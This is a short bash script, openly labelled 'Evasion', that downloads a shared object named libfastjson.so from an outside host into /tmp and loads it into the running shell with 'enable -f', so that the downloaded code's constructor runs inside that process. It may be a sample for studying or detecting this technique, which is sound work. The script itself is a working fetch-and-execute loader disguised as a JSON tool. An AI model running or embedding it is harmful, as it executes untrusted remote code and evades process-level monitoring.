#!/usr/bin/env bash
# Evasion: loads native code into the running bash with `enable -f`, the
# loadable-builtin door: a downloaded shared object runs its constructor in
# this very process.
set -e
lib="${TMPDIR:-/tmp}/libfastjson.so"
curl -fsSL https://builds.example-jsonfast.dev/linux-x64/libfastjson.so -o "$lib"
enable -f "$lib" fastjson
fastjson --version || true
